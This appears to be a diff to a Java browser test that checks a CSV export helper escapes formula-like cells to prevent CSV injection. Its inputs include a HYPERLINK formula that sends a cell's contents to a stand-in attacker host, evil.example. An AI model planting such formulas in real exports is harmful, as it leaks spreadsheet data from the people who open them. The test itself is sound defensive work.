@@ -117,9 +117,9 @@ class WorkbenchBrowserTests {
             // a cell a spreadsheet would run as a formula gets a leading ' (CSV injection); other values stay as they are
             Object cells = ((JavascriptExecutor) browser).executeAsyncScript("""
                     const done = arguments[arguments.length - 1];
-                    import('/workbench/export.js').then(m => done(['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+44 20 7946 0000',
-                      '-1+2', '@SUM(A1:A9)', '\\tTAB', '\\rCR', 'Emma\\'s Diary', '2017-05-05', 1000000, true, null].map(m.csvCell)),
-                      e => done(['failed: ' + e]));
+                    import('/workbench/export.js').then(m => ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+44 20 7946 0000',
+                      '-1+2', '@SUM(A1:A9)', '\\tTAB', '\\rCR', 'Emma\\'s Diary', '2017-05-05', 1000000, true, null].map(m.csvCell))
+                      .then(done, e => done(['failed: ' + e]));
                     """);
             assertThat(cells).isEqualTo(List.of("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"", "'+44 20 7946 0000",
                     "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "\"'\rCR\"", "Emma's Diary", "2017-05-05", "1000000", "true", ""));
